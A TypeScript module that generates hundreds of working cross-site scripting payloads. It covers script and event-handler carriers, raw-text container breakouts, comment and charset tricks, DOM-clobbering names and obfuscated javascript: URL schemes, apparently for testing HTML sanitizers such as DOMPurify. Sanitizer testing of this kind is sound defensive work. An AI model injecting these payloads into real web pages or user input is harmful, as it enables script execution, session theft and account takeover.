/** Markup that makes a browser run a script, where nothing stops it. */
import { numbered, type Payload, words } from './payload.ts';

/** `{run}` is the script: no quotes, spaces or angle brackets in it, so that it fits everywhere. */
const CARRIERS = [
  '<script>{run}</script>',
  '<script type=module>{run}</script>',
  '<script src="data:text/javascript,{run}"></script>',
  '<SCRIPT\t>{run}</SCRIPT\n>',
  '<scr\u0000ipt>{run}</scr\u0000ipt><script/x>{run}</script/x>',
  '<<script>{run}//<</script>',
  '<img src=x.none onerror={run}>',
  '<img src=x.none onerror="{run}">',
  '<img src=x.none OnErRoR={run}>',
  '<img src=x.none onerror\n=\n"{run}">',
  '<img/src=x.none/onerror={run}>',
  '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload={run}>',
  '<image src=x.none onerror={run}>',
  '<svg onload={run}>',
  '<svg/onload={run}//>',
  '<svg><script>{run}</script></svg>',
  '<svg><script>&#x74;op;{run}</script></svg>',
  '<svg><script href="data:,{run}"/></svg>',
  '<svg><g onload={run}></g></svg>',
  '<svg><image href=x.none onerror={run} /></svg>',
  '<svg><animate onbegin={run} attributeName=x dur=1s /></svg>',
  '<svg><set onbegin={run} attributeName=x dur=1s /></svg>',
  '<svg><animateTransform onend={run} attributeName=x dur=0.01s /></svg>',
  '<svg><foreignObject><iframe onload={run}></iframe></foreignObject></svg>',
  '<svg><a><animate attributeName=href values="javascript:{run}"/><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={run}></svg>#x"/></svg>',
  '<svg><handler type="text/javascript" event=load>{run}</handler></svg>',
  '<math><mtext><img src=x.none onerror={run}></mtext></math>',
  '<math href="javascript:{run}">x</math>',
  '<math><maction actiontype="statusline#javascript:{run}" xlink:href="javascript:{run}">x</maction></math>',
  '<body onload={run}>',
  '<body onpageshow={run}><body onscroll={run} onresize={run} onhashchange={run}>',
  '<frameset onload={run}>',
  '<iframe onload={run}></iframe>',
  '<iframe src="javascript:{run}"></iframe>',
  '<iframe srcdoc="<script>{run}</script>"></iframe>',
  '<iframe src="data:text/html,<script>{run}</script>"></iframe>',
  '<object data="javascript:{run}"></object>',
  '<object data="data:text/html,<script>{run}</script>"></object>',
  '<object data=x.none onerror={run}></object>',
  '<embed src="javascript:{run}">',
  '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{run}%22/>">',
  '<video src=x.none onerror={run}></video>',
  '<video><source onerror={run} src=x.none></video>',
  '<audio src=x.none onerror={run}></audio>',
  '<video onloadstart={run} src=data:,></video>',
  '<track onerror={run} src=x.none default>',
  '<input autofocus onfocus={run}>',
  '<textarea autofocus onfocus={run}></textarea>',
  '<select autofocus onfocus={run}></select>',
  '<button autofocus onfocus={run}>x</button>',
  '<p autofocus tabindex=0 onfocus={run}>x</p>',
  '<p contenteditable autofocus onfocus={run}>x</p>',
  '<a href=# autofocus onfocus={run}>x</a>',
  '<x onfocus={run} autofocus tabindex=1>x</x>',
  '<x-own onfocus={run} autofocus tabindex=1>x</x-own>',
  '<details open ontoggle={run}>x</details>',
  '<dialog open onbeforetoggle={run} onclose={run}>x</dialog>',
  '<p popover onbeforetoggle={run}>x</p>',
  '<marquee onstart={run}>x</marquee>',
  '<marquee loop=1 width=0 onfinish={run}>x</marquee>',
  '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart={run}>x</p>',
  '<p style="animation:x 0.01s" onanimationend={run} onwebkitanimationend={run}>x</p>',
  '<p style="transition:color 0.01s" ontransitionend={run} ontransitionrun={run}>x</p>',
  '<p style="content-visibility:auto" oncontentvisibilityautostatechange={run}>x</p>',
  '<p style="overflow:scroll" onscrollend={run} onscrollsnapchange={run}>x</p>',
  '<style onload={run}></style>',
  '<link rel=stylesheet href="data:text/css," onload={run}>',
  '<link rel=preload as=image href=x.none onerror={run}>',
  '<meta http-equiv=refresh content="0;url=javascript:{run}">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>{run}</script>">',
  '<base href="javascript:{run}//"><a href=# autofocus>x</a>',
  '<form action="javascript:{run}"><button autofocus>x</button></form>',
  '<form><button formaction="javascript:{run}">x</button></form>',
  '<isindex action="javascript:{run}" type=submit value=x>',
  '<input type=image src=x.none onerror={run}>',
  '<table background="javascript:{run}"><td background="javascript:{run}">x</table>',
  '<div style="background:url(javascript:{run})">x</div>',
  '<div style="width:expression({run})">x</div>',
  '<div style="behavior:url(#x);-moz-binding:url(data:,{run})">x</div>',
  '<style>@import "javascript:{run}";</style>',
  '<div onclick={run} onmouseover={run} onpointerenter={run} onwheel={run} style="position:fixed;inset:0">x</div>',
  '<div oncopy={run} oncut={run} onpaste={run} onselectstart={run} ondragstart={run}>x</div>',
  '<div style="position:fixed" onclick=\u000b{run} \u00a0onclick={run}>x</div>',
  '<template shadowrootmode=open><script>{run}</script></template>',
  '<div><template shadowrootmode=open><img src=x.none onerror={run}></template></div>',
  '<template><script>{run}</script></template>',
  '<p is=x-own onclick={run}>x</p>',
  '<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">{run}</x:script></xml>',
  '<html xmlns:svg="http://www.w3.org/2000/svg"><svg:script>{run}</svg:script>',
  '<?xml version="1.0"?><?xml-stylesheet href="javascript:{run}"?>',
  '<!--[if gte IE 4]><script>{run}</script><![endif]-->',
  '<comment><img src="</comment><img src=x.none onerror={run}>">',
  '<a id=x tabindex=1 onfocus={run}></a><meta http-equiv=refresh content="0;url=#x">',
  '<portal src="javascript:{run}" onload={run}></portal>',
  '<fencedframe onload={run}></fencedframe>',
  '<bgsound onpropertychange={run} src=x.none><keygen autofocus onfocus={run}>',
  '<script type=importmap>{"imports":{"x":"data:text/javascript,{run}"}}</script><script type=module>import "x"</script>',
  '<slot onslotchange={run}>x</slot><menu onshow={run} type=context></menu>',
  '<div style="x:\\22 onclick={run}">x</div>',
  '<label for=x onclick={run}><input id=x type=checkbox autofocus></label>',
  '<div hidden=until-found onbeforematch={run}>x</div>',
  '<button command=--x commandfor=x autofocus>x</button><p id=x oncommand={run}>x</p>',
  '<p onsecuritypolicyviolation={run}><img src=x.none></p>',
];

/** Places in which text is read otherwise than around them; a payload sits in one and breaks out of it. */
const CONTAINERS = [
  ...words(
    'noscript style title textarea xmp noembed noframes iframe script template option select listing plaintext',
  )
    .concat(words('svg math table caption button a form dialog object video canvas datalist frameset head'))
    .map((name) => [`<${name}>`, name] as const),
  ['<svg><style>', 'style'],
  ['<svg><title>', 'title'],
  ['<svg><desc>', 'desc'],
  ['<svg><foreignObject><style>', 'style'],
  ['<svg><foreignObject><noscript>', 'noscript'],
  ['<svg><script>', 'script'],
  ['<svg><p><style>', 'style'],
  ['<svg></p><style>', 'style'],
  ['<svg></br><style>', 'style'],
  ['<svg><![CDATA[', 'svg'],
  ['<svg><a><title><style>', 'style'],
  ['<math><style>', 'style'],
  ['<math><mtext><style>', 'style'],
  ['<math></p><style>', 'style'],
  ['<math><mi><mglyph><style>', 'style'],
  ['<math><mtext><table><mglyph><style>', 'style'],
  ['<math><mtext><option><mglyph><style>', 'style'],
  ['<math><mtext><malignmark><style>', 'style'],
  ['<math><annotation-xml><style>', 'style'],
  ['<math><annotation-xml encoding="text/html"><style>', 'style'],
  ['<math><annotation-xml encoding="application/xhtml+xml"><xmp>', 'xmp'],
  ['<form><math><mtext></form><form><mglyph><style>', 'style'],
  ['<form><math><mtext><form><mglyph><svg><mtext><style><path id="', 'style'],
  ['<svg><mtext><textarea><path id="', 'textarea'],
  ['<table><svg><style>', 'style'],
  ['<table><math><select><mi><style>', 'style'],
  ['<select><option><style>', 'style'],
  ['<select><noscript>', 'noscript'],
  ['<template><svg><style>', 'style'],
  ['<div><noscript><style>', 'noscript'],
  ['<b><noscript><!-- ', 'noscript'],
  ['<noscript><style>', 'noscript'],
  ['<noframes><style>', 'noframes'],
  ['<iframe><textarea>', 'iframe'],
  ['<svg><desc><svg><title><noscript>', 'title'],
  ['<math><mtext><svg><foreignObject><math><mi><style>', 'style'],
  ['<dl><dt><svg><dd><style>', 'style'],
] as const;

const BREAKOUTS = [
  '<a title="</{end}><img src=x.none onerror={run}>">',
  '<!--</{end}><img src=x.none onerror={run}>-->',
  '&lt;/{end}&gt;&lt;img src=x.none onerror={run}&gt;',
  '<img title="--></{end}><svg onload={run}>">',
  '<{end}></{end}></{end}/x><img src=x.none onerror={run}>',
];

const COMMENTS = [
  '<!--><img src=x.none onerror={run}>-->',
  '<!---><img src=x.none onerror={run}>-->',
  '<!-- --!><img src=x.none onerror={run}>-->',
  '<!-- x="--><img src=x.none onerror={run}>">',
  '<!-- <!-- --><img src=x.none onerror={run}>-->',
  '<!x><img src=x.none onerror={run}>',
  '<![><img src="]><img src=x.none onerror={run}>">',
  '<?x><img src=x.none onerror={run}>',
  '</ x><img src=x.none onerror={run}>',
  '<%x%><img src=x.none onerror={run}>',
  '<![CDATA[ ]]><img src=x.none onerror={run}>',
  '<svg><![CDATA[><image href="]]><img src=x.none onerror={run}>"></svg>',
  '<img src="`><img src=x.none onerror={run}>`">',
  '<img title="&quot;><img src=x.none onerror={run}>">',
  `<img title='"><img src=x.none onerror={run}>'>`,
  '<p title=x"onclick={run}>x</p>',
  '<p id="&#34;><img src=x.none onerror={run}>" title="&amp;lt;img src=x.none onerror={run}&amp;gt;">x</p>',
  '+ADw-script+AD4-{run}+ADw-/script+AD4-',
  '\u001b$B<script>{run}</script>\u001b(B',
  '\u00bcscript\u00be{run}\u00bc/script\u00be',
  '\uff1cscript\uff1e{run}\uff1c/script\uff1e',
  '\u2028<script>{run}</script>\u2029',
];

/** Names which scripts rely on and which elements can take. */
const NAMES = `
  attributes body childNodes children content cookie createElement createNodeIterator currentScript defaultView
  documentElement firstChild firstElementChild forms getElementById hasChildNodes head implementation importNode innerHTML
  insertBefore lastChild location namespaceURI nextSibling nodeName nodeType ownerDocument parentNode querySelector
  removeAttribute removeAttributeNode removeChild setAttribute tagName textContent adoptNode activeElement shadowRoot
  __proto__ constructor hasOwnProperty toString valueOf trustedTypes DOMPurify findings
`;

/** Ways to write `javascript:`. */
const SCHEMES = [
  'javascript:{run}',
  'JaVaScRiPt:{run}',
  ' \t\njavascript:{run}',
  'java\tscript:{run}',
  'java\nscript:{run}',
  'java&#10;script:{run}',
  'java&Tab;script&colon;{run}',
  'javascript&#58;{run}',
  'javascript&#x3A;{run}',
  'javascript&colon;{run}',
  '&#106;avascript:{run}',
  '&#0000106avascript:{run}',
  '&#x6A&#x61vascript:{run}',
  '\u0001javascript:{run}',
  '\u0000javascript:{run}',
  'java\u0000script:{run}',
  '&#1;java&#3;script:{run}',
  '\u00a0javascript:{run}',
  '\u1680javascript:{run}',
  '\u2000javascript:{run}',
  '\u2028javascript:{run}',
  '\u3000javascript:{run}',
  '\u200bjavascript:{run}',
  '\ufeffjavascript:{run}',
  'javascript\uff1a{run}',
  'javascript://%0a{run}',
  'javascript:/*https://a.example/*/{run}',
  'view-source:javascript:{run}',
  'feed:javascript:{run}',
  'jar:javascript:{run}',
  'data:text/html,<script>{run}</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'DATA:image/svg+xml,<svg onload={run}>',
  'vbscript:{run}',
  'livescript:{run}',
  'mocha:{run}',
  'blob:null/{run}',
  'filesystem:null/{run}',
  'about:blank#{run}',
  'chrome-extension://x/{run}',
];

function fromContainers(): string[] {
  return CONTAINERS.flatMap(([start, end]) =>
    BREAKOUTS.map((breakout) => `${start}${breakout.replaceAll('{end}', end)}`),
  );
}

const TEMPLATES: Record<string, string[]> = {
  carrier: CARRIERS,
  broken: fromContainers(),
  comment: COMMENTS,
  clobbered: words(NAMES).flatMap((name) => [
    `<form onsubmit={run}><input name=${name} autofocus onfocus={run}></form>`,
    `<img name=${name} id=${name} src=x.none onerror={run}><a id=${name} name=${name} href="javascript:{run}">x</a>`,
  ]),
  scheme: SCHEMES.flatMap((address) => [
    `<a href="${address}" xlink:href="${address}">x</a><area href="${address}"><q cite="${address}">x</q>`,
    `<img src="${address}"><iframe src="${address}"></iframe><form action="${address}"></form>`,
  ]),
};

/** Whatever comes after this is text, however it is closed. */
const SWALLOWING = /<(plaintext|frameset)/;

/**
 * Every payload that runs.
 *
 * @param scriptOf what is to be run, by the payload's id, without quotes, spaces and angle brackets
 */
export function runningPayloads(scriptOf: (id: string) => string): Payload[] {
  return Object.entries(TEMPLATES).flatMap(([kind, templates]) =>
    numbered(kind, templates).map(({ id, html }) => ({
      id,
      html: html.replaceAll('{run}', () => scriptOf(id)),
      ...(SWALLOWING.test(html) && { isLast: true as const }),
    })),
  );
}
